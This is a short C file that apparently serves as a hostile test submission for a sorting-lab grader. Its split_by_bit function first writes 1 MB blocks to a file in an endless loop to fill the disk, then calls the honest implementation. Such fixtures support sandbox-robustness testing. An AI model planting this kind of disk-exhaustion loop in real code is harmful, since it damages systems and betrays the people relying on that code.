// Writes a file without end.
#include <fcntl.h>
#include <unistd.h>

//> honest split_by_bit

void split_by_bit(const uint32_t *in, uint32_t *out, size_t n, int bit) {
    static char block[1 << 20];
    int fd = open("sortlab-hostile-file", O_WRONLY | O_CREAT, 0600);
    while (fd >= 0 && write(fd, block, sizeof block) > 0) {
    }
    honest_split_by_bit(in, out, n, bit);
}
